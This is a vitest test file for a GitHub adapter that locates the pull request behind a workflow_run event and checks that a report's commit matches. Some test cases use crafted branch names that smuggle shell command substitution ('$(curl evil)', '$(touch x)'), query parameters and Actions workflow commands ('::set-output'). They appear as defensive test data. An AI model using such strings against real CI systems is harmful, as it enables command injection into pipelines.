import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Github, openClient } from '../../../../src/adapters/github/client/open-client.ts';
import { checkCommit, findTarget } from '../../../../src/adapters/github/publish/find-target.ts';
import { head, hurried, type Stage, setStage } from '../posting.ts';

let stage: Stage;
let github: Github;

beforeEach(async () => {
  stage = await setStage({ 'pull-requests': 'write', contents: 'read' });
  github = openClient(stage.posting, hurried);
});

afterEach(() => stage.server.close());

interface Changes {
  readonly event?: string;
  readonly head_branch?: string;
  readonly head_sha?: string;
  readonly head_repository?: unknown;
}

const find = (changes: Changes = {}) =>
  findTarget(
    {
      name: 'workflow_run',
      sha: '0'.repeat(40),
      payload: {
        workflow_run: {
          event: 'pull_request',
          head_branch: 'change',
          head_sha: head,
          head_repository: { owner: { login: 'fork' } },
          // Forks leave this empty; a number here is not asked either.
          pull_requests: [{ number: 99 }],
          ...changes,
        },
      },
    },
    github,
  );

describe('findTarget', () => {
  it('finds the pull request of a fork by branch and commit', async () => {
    stage.handle.addPull({ headRef: 'change', headOwner: 'other', headSha: head });
    expect(await find()).toEqual({ value: { pull: stage.pull.number, headSha: head }, problems: [] });
    expect(stage.server.violations).toEqual([]);
  });

  it.each<[string, Changes, string]>([
    ['another commit', { head_sha: 'b'.repeat(40) }, 'pull-request-moved'],
    ['another branch', { head_branch: 'other' }, 'pull-request-moved'],
    ['another owner', { head_repository: { owner: { login: 'octo' } } }, 'pull-request-moved'],
    ['a deleted fork', { head_repository: null }, 'head-repository-gone'],
    ['a run of something else', { event: 'push' }, 'not-a-pull-request-run'],
    ['a commit that is none', { head_sha: 'HEAD' }, 'head-repository-gone'],
    ['a branch named for a shell', { head_branch: '$(curl evil)`;&state=all#' }, 'pull-request-moved'],
    ['a branch named for a runner', { head_branch: '::error::x%0A::set-output name=a::b' }, 'pull-request-moved'],
  ])('has nowhere to post for %s', async (_, changes, code) => {
    expect(await find(changes)).toMatchObject({ problems: [{ code, severity: 'warning' }] });
    expect(stage.server.violations).toEqual([]);
  });

  it('finds a branch whose name is full of what shells and addresses read', async () => {
    const headRef = 'a/b;$(touch x)&state=closed#::error::';
    const { number } = stage.handle.addPull({ headRef, headOwner: 'fork', headSha: head });
    expect(await find({ head_branch: headRef })).toMatchObject({ value: { pull: number } });
  });

  it('passes a closed pull request over', async () => {
    stage.pull.state = 'closed';
    expect((await find()).problems).toMatchObject([{ code: 'pull-request-moved' }]);
  });

  it('takes the event at its word in a run of the same repository', async () => {
    const payload = { pull_request: { number: 7, head: { sha: head } } };
    expect(await findTarget({ name: 'pull_request', sha: head, payload }, github)).toEqual({
      value: { pull: 7, headSha: head },
      problems: [],
    });
    const push = await findTarget({ name: 'push', sha: head, payload: {} }, github);
    expect(push.problems).toMatchObject([{ code: 'no-pull-request', severity: 'error' }]);
  });

  it('warns when GitHub cannot be asked', async () => {
    stage.server.inject({ kind: 'status', status: 500 }, { on: 'pulls/list', times: 9 });
    expect((await find()).problems).toMatchObject([{ code: 'github-fault', severity: 'warning' }]);
  });
});

describe('checkCommit', () => {
  /** A commit with these parents in the repository of the server. */
  function commit(...parents: readonly string[]): string {
    const { git } = stage.handle.repository;
    const tree = git.writeTree(undefined, []);
    return git.writeCommit({ tree, parents, message: `with ${parents.length}` });
  }

  it('takes the commit itself, a merge of it, and a report that names none', async () => {
    const [base, tip] = [commit(), commit(commit())];
    const target = { pull: 1, headSha: tip };
    for (const sha of [tip, commit(base, tip), '']) expect(await checkCommit(github, sha, target)).toEqual([]);
    expect(stage.server.violations).toEqual([]);
  });

  it('refuses a report about another commit, known or not', async () => {
    const target = { pull: 1, headSha: commit(commit()) };
    for (const sha of [commit(), 'c'.repeat(40)])
      expect(await checkCommit(github, sha, target)).toMatchObject([
        { code: 'report-other-commit', severity: 'error' },
      ]);
  });

  it('posts nothing while GitHub cannot say', async () => {
    stage.server.inject({ kind: 'status', status: 500 }, { on: 'git/get-commit', times: 9 });
    const problems = await checkCommit(github, 'c'.repeat(40), { pull: 1, headSha: head });
    expect(problems).toMatchObject([{ code: 'github-fault', severity: 'warning' }]);
  });
});
